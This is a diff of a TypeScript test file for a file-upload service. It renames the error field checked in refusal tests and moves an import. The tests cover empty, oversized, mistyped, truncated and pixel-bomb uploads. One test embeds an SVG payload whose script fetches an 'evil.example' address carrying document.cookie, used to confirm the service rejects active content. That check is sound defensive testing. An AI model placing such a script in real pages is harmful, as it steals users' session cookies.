@@ -5,10 +5,10 @@ import path from 'node:path';
 import { Readable } from 'node:stream';
 import sharp from 'sharp';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import type { FileStorage } from '../../lib/storage/file-storage';
+import { contentKey, type FileStorage } from '../../lib/storage/file-storage';
 import { createLocalDiskStorage } from '../../lib/storage/local-disk-storage';
 import { MAX_BYTES, MAX_SVG_BYTES } from './limits';
-import { cleanFilename, contentKey, storeUpload, uploadDepsFromConfig, type StoredUpload, type UploadDeps, type UploadInput } from './service';
+import { cleanFilename, storeUpload, uploadDepsFromConfig, type StoredUpload, type UploadDeps, type UploadInput } from './service';
 import { UploadRefusedError } from './upload-refused';
 import { animatedGif, ebml, FILMED_AT, mp4, pdf, phoneJpeg, photo, pngBomb, simpleSvg } from './upload-test-files';
 
@@ -172,7 +172,7 @@ describe('storeUpload: what is accepted', () => {
   it('refuses a cut-off MP4 video', async () => {
     const video = mp4();
     const error = await refused({ kind: 'video', filename: 'cut.mp4', source: video.subarray(0, video.length - 500) });
-    expect([error.reason, error.statusCode]).toEqual(['damaged', 422]);
+    expect([error.code, error.statusCode]).toEqual(['uploadDamaged', 422]);
   });
 });
 
@@ -211,7 +211,7 @@ describe('storeUpload: what is refused, and why', () => {
 
   it('refuses an empty file', async () => {
     const error = await refused({ kind: 'image', filename: 'photo.jpg', source: Buffer.alloc(0) });
-    expect([error.reason, error.statusCode, error.message]).toEqual(['empty', 400, 'The file is empty.']);
+    expect([error.code, error.statusCode, error.message]).toEqual(['uploadEmpty', 400, 'The file is empty.']);
   });
 
   it('refuses files over the limit of their kind', async () => {
@@ -224,7 +224,7 @@ describe('storeUpload: what is refused, and why', () => {
     ];
     for (const [input, message] of cases) {
       const error = await refused(input);
-      expect([error.reason, error.statusCode, error.message]).toEqual(['too-large', 413, message]);
+      expect([error.code, error.statusCode, error.message]).toEqual(['uploadTooLarge', 413, message]);
     }
   });
 
@@ -251,12 +251,12 @@ describe('storeUpload: what is refused, and why', () => {
     ['a QuickTime film', 'video', 'film.mov', mp4('qt  ', ['qt  ']), "This file is not a video of an accepted type. Accepted videos: MP4 or WebM (the type is read from the file's content, not its name)."],
   ] as const)('refuses %s', async (_name, kind, filename, source, message) => {
     const error = await refused({ kind, filename, source });
-    expect([error.reason, error.statusCode, error.message]).toEqual(['not-accepted', 415, message]);
+    expect([error.code, error.statusCode, error.message]).toEqual(['uploadNotAccepted', 415, message]);
   });
 
   it('refuses a PNG declared as a PDF document', async () => {
     const error = await refused({ kind: 'document', filename: 'annual-report.pdf', source: await photo(64, 64, 'png') });
-    expect([error.reason, error.statusCode]).toEqual(['not-accepted', 415]);
+    expect([error.code, error.statusCode]).toEqual(['uploadNotAccepted', 415]);
     expect(error.message).toBe("This file is a PNG image, not a PDF document. Accepted documents: PDF (the type is read from the file's content, not its name).");
   });
 
@@ -266,7 +266,7 @@ describe('storeUpload: what is refused, and why', () => {
       filename: 'badge.svg',
       source: Buffer.from(simpleSvg('<script>fetch("https://evil.example/?" + document.cookie)</script><rect onclick="alert(1)" width="1" height="1"/>')),
     });
-    expect([error.reason, error.statusCode]).toEqual(['active-content', 422]);
+    expect([error.code, error.statusCode]).toEqual(['uploadActiveContent', 422]);
     expect(error.message).toBe(
       'SVG images with script are not accepted, and this one has the <script> element, the onclick attribute. Export the drawing again without interactivity (or as PNG) and upload that.',
     );
@@ -274,16 +274,16 @@ describe('storeUpload: what is refused, and why', () => {
 
   it('refuses an SVG that is not UTF-8 text, or not a whole drawing', async () => {
     const latin1 = await refused({ kind: 'image', filename: 'a.svg', source: Buffer.concat([Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><text>caf'), Buffer.from([0xe9]), Buffer.from('</text></svg>')]) });
-    expect(latin1.reason).toBe('damaged');
+    expect(latin1.code).toBe('uploadDamaged');
     expect(latin1.message).toContain('it is not UTF-8 text');
     const broken = await refused({ kind: 'image', filename: 'b.svg', source: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="-5" height="x"><rect') });
-    expect(broken.reason).toBe('damaged');
+    expect(broken.code).toBe('uploadDamaged');
   });
 
   it('refuses a truncated photo and a truncated PDF', async () => {
     const jpeg = await photo(800, 600);
     const cutPhoto = await refused({ kind: 'image', filename: 'cut.jpg', source: jpeg.subarray(0, jpeg.length / 2) });
-    expect([cutPhoto.reason, cutPhoto.statusCode]).toEqual(['damaged', 422]);
+    expect([cutPhoto.code, cutPhoto.statusCode]).toEqual(['uploadDamaged', 422]);
     const document = await pdf();
     const cutPdf = await refused({ kind: 'document', filename: 'cut.pdf', source: document.subarray(0, document.length - 200) });
     expect(cutPdf.message).toBe('The PDF document is incomplete (it does not end as a PDF does). Save it again and upload the new file.');
@@ -291,7 +291,7 @@ describe('storeUpload: what is refused, and why', () => {
 
   it('refuses a pixel bomb', async () => {
     const error = await refused({ kind: 'image', filename: 'tiny.png', source: pngBomb(20_000, 20_000) });
-    expect([error.reason, error.statusCode]).toEqual(['too-many-pixels', 422]);
+    expect([error.code, error.statusCode]).toEqual(['uploadTooManyPixels', 422]);
     expect(error.message).toContain('20000 × 20000 pixels (400 megapixels)');
   });
 });
